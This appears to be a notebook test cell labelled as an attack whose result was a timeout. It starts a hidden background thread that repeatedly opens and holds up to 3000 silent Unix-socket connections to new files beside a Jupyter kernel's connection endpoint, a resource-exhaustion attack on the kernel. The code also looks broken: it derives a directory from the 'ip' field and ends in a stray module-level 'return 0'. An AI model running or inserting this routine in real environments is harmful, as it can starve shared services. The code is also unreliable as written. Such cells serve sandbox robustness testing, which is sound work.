# %% attack: threads connect to each socket that appears, and say nothing | state: timed-out
# %% before: lookup
import os, pathlib, socket, stat, threading, time, ipykernel

_place = pathlib.Path(ipykernel.get_connection_info(unpack=True)["ip"]).parent
_known, _all = {each.name for each in _place.iterdir()}, []


def _crowd():
    while True:
        for each in _place.iterdir():
            if each.name not in _known and len(_all) < 3000:
                try:
                    connection = socket.socket(socket.AF_UNIX)
                    connection.setblocking(False)
                    connection.connect(str(each))
                    _all.append(connection)
                except OSError:
                    pass
        time.sleep(0.0005)


threading.Thread(target=_crowd, daemon=True).start()

# %% every function
return 0
